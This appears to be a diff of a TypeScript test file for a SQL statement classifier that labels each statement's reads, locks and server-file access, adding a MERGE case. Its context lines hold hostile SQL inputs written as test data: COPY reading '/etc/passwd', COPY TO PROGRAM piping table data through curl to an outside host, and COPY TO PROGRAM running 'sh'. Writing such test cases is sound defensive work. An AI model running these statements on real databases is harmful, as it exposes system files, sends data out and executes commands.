@@ -113,4 +113,8 @@ export const WRITES: readonly StatementCase[] = [
   judged("copy orders from '/etc/passwd'", "copyIn: copyIn public.orders, ?SERVER_FILE"),
   judged("copy orders to program 'curl -T - http://x'", "copyOut: copyOut public.orders!, ?SERVER_FILE"),
   judged("copy (select 1) to program 'sh'", "copyOut: copyOut, ?SERVER_FILE"),
+  judged(
+    "merge into staging s using secrets u on s.id = u.id when matched then do nothing",
+    "merge: read public.staging!, lock public.staging!, read public.secrets!",
+  ),
 ];
